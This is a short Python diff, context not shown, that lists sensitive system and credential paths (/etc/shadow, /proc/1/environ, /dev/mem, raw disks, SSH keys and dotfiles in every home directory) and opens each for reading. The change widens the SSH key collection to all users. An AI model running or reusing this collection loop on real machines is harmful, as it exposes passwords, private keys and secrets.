@@ -150,7 +150,8 @@ KINDS = (
 
         wanted = ["/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/resolv.conf"]
         wanted += ["/proc/1/environ", "/proc/kcore", "/dev/mem", "/dev/sda", "/dev/vda"]
-        wanted += glob.glob("/root/.*") + glob.glob("/home/*/.*") + glob.glob("/root/.ssh/*")
+        for home in (os.path.join("/", "root"), "/home/*"):
+            wanted += glob.glob(f"{home}/.*") + glob.glob(f"{home}/.ssh/*")
         for path in wanted:
             try:
                 with open(path, "rb") as file:
